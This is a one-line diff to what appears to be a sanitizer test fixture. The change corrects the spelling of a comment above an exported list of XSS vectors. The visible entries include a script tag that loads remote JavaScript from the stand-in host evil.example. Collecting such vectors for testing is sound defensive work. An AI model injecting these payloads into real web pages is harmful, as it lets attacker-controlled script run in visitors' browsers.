@@ -1,4 +1,4 @@
-/** What has got through other sanitisers; collected from public cheat sheets and advisories. */
+/** Vectors that got through other sanitizers; collected from public cheat sheets and advisories. */
 export const xssVectors = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
